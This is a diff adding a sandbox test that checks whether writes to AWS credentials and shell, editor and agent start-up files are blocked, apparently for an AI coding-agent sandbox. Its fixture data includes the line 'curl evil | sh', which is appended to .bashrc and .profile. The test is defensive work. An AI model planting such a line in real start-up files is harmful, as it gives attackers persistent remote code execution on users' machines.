@@ -879,6 +879,38 @@ describe.runIf(caps.linux)('file-system threats', () => {
       }
     });
 
+    // Codex's `.aws` is protected in every writable root; the opt-in 'startup-files' preset adds
+    // shell, editor, git and agent start-up files, at the root even when missing, and existing
+    // ones found in a bounded walk below it.
+    it.runIf(!skip && isolated)('FS-30: .aws and (opt-in) start-up files in the workspace stay untouched', async () => {
+      fs.writeFileSync(`${scene.ws}/.bashrc`, '# mine\n');
+      fs.mkdirSync(`${scene.ws}/pkg/sub`, { recursive: true });
+      fs.writeFileSync(`${scene.ws}/pkg/sub/.zshrc`, '# nested\n');
+      fs.mkdirSync(`${scene.ws}/pkg/.vscode`);
+      const ops = [
+        ['mkdir', `${scene.ws}/.aws`],
+        ['write', `${scene.ws}/.aws/credentials`, '[default]\n'],
+        ['append', `${scene.ws}/.bashrc`, 'curl evil | sh\n'],
+        ['write', `${scene.ws}/.profile`, 'curl evil | sh\n'],
+        ['write', `${scene.ws}/pkg/sub/.zshrc`, 'x'],
+        ['write', `${scene.ws}/pkg/.vscode/tasks.json`, '{}'],
+        ['mkdirp', `${scene.ws}/.vscode/x`],
+        ['mkdirp', `${scene.ws}/.claude/commands`],
+        ['write', `${scene.ws}/.mcp.json`, '{}'],
+      ];
+      const pol = modePolicy(mode, { filesystem: { write: [scene.ws], protectPresets: ['startup-files'] } });
+      const before = snapshot(scene.ws);
+      const r = await probeOps(ops, { cwd: scene.ws, policy: pol });
+      expectDenied(r, 'start-up files', [...DENIED, 'EEXIST', 'ENOTDIR', 'ENOENT', 'EISDIR']);
+      expectUnchanged(before, snapshot(scene.ws));
+      // Control: without the preset the start-up files are ordinary workspace files (.aws stays protected).
+      const r2 = await probeOps(ops, { cwd: scene.ws, policy });
+      expect(r2[1]).not.toBe('ok');
+      expect(r2.slice(2)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok', 'ok', 'ok']);
+      expect(fs.readFileSync(`${scene.ws}/.bashrc`, 'utf8')).toContain('curl evil');
+      expect(fs.existsSync(`${scene.ws}/.aws/credentials`)).toBe(false);
+    });
+
     // A writable root nested in a protected directory (ws/.codex/cache under .codex, a root
     // under a `protect`ed directory) is the most specific entry there: it stays writable, and its
     // own missing metadata gets placeholders instead of failing the run with EROFS.
